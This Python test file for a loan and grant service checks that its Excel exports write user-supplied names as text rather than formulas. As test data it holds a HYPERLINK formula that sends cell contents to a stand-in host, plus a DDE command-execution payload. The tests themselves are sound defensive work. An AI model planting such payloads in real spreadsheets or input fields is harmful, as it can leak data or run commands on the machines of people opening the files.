"""Formula injection (issue #16, finding 2): a name a person typed is written as text in every workbook the service
writes, never as a formula; a control character left in old data does not make an export a 500 (finding 14).

Each export is read back with openpyxl: no cell of any sheet is a formula, and the name is there as typed.
"""

from __future__ import annotations

import io
from typing import Any

import openpyxl
from sqlalchemy import update

from loans.imports.template import COLUMNS
from loans.reports.tables import Column, workbook
from service.registry.models import CoBorrower, Student, University
from service.responses import XLSX_MEDIA_TYPE
from tests.integration.donation_fixtures import V1, grant_world
from tests.integration.loan_fixtures import loan_world
from tests.integration.test_loan_import import row, setup, upload

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"点击查看")'


def cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in book.worksheets for line in ws.iter_rows() for cell in line]


def assert_no_formula(content: bytes, *texts: str) -> None:
    every = cells(content)
    formulas = [c.coordinate for c in every if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    values = {c.value for c in every}
    for text in texts:
        assert text in values, f"{text!r} is not in the workbook as text"


async def rename(sessions: Any, name: str) -> None:
    """Names as old data (or any other way in) may hold them: straight into the tables."""
    async with sessions() as s, s.begin():
        await s.execute(update(Student).values(name=name))
        await s.execute(update(CoBorrower).values(name=name))
        await s.execute(update(University).values(name=name))


async def test_contract_export_and_loan_reports_write_names_as_text(client, make_user, sessions):
    w = await loan_world(client, make_user)
    await w.contract("ug")
    await rename(sessions, FORMULA)
    auditor = await make_user("auditor")

    r = await client.get("/api/v1/loan-exports/contracts.xlsx", headers=auditor)
    assert r.status_code == 200, r.text[:300]
    assert_no_formula(r.content, FORMULA)

    for path, params in (
        ("/api/v1/reports/subsidy", {"year": 2024}),
        ("/api/v1/reports/default-rate", {"by": "university", "as_of": "2029-12-31"}),
        ("/api/v1/reports/loans", {"year": 2024}),
    ):
        r = await client.get(path, params={**params, "format": "xlsx"}, headers=auditor)
        assert r.status_code == 200, (path, r.text[:300])
        assert_no_formula(r.content)


def test_the_report_tables_write_text_cells_as_text():
    # The reports above may have no row naming a university yet: their one writer, with such a row.
    columns = [Column("university", "高校"), Column("contracts", "合同笔数", "int")]
    content = workbook("表", FORMULA, columns, [{"university": FORMULA, "contracts": 1}])
    assert_no_formula(content, FORMULA)


async def test_a_control_character_in_old_data_does_not_break_the_export(client, make_user, sessions):
    w = await loan_world(client, make_user)
    await w.contract("ug")
    await rename(sessions, "张\x01三")
    r = await client.get("/api/v1/loan-exports/contracts.xlsx", headers=await make_user("auditor"))
    assert r.status_code == 200, r.text[:300]
    assert_no_formula(r.content, "张\ufffd三")


async def test_cross_check_export_writes_names_as_text(client, make_user, sessions):
    w = await grant_world(client, make_user)
    p = (await w.program(funding="social"))["id"]
    await w.donate(await w.donor(), p, "10000.00")
    await w.award(p, "ug")
    await rename(sessions, FORMULA)
    r = await client.get(f"{V1}/cross-check/export", headers=w.auditor)
    assert r.status_code == 200, r.text[:300]
    assert_no_formula(r.content, FORMULA)


async def test_the_import_error_report_writes_what_was_uploaded_as_text(client, make_user):
    officer = await setup(client, make_user)
    book = openpyxl.Workbook()
    ws = book.active
    ws.append([c.header for c in COLUMNS])
    values = row(1, name=FORMULA, co_name="+cmd|' /C calc'!A0", id_number="not an id")
    ws.append([values.get(c.field) for c in COLUMNS])
    for cell in ws[2]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # as a clerk's text cell, not a formula
    buf = io.BytesIO()
    book.save(buf)
    r = await upload(client, officer, buf.getvalue(), format="xlsx")
    assert r.status_code == 422 and r.headers["content-type"].startswith(XLSX_MEDIA_TYPE), r.text[:300]
    assert_no_formula(r.content, FORMULA, "+cmd|' /C calc'!A0")


async def test_the_import_template_has_no_formula(client, make_user):
    officer = await setup(client, make_user)
    r = await client.get("/api/v1/loan-imports/template", headers=officer)
    assert r.status_code == 200
    assert_no_formula(r.content)
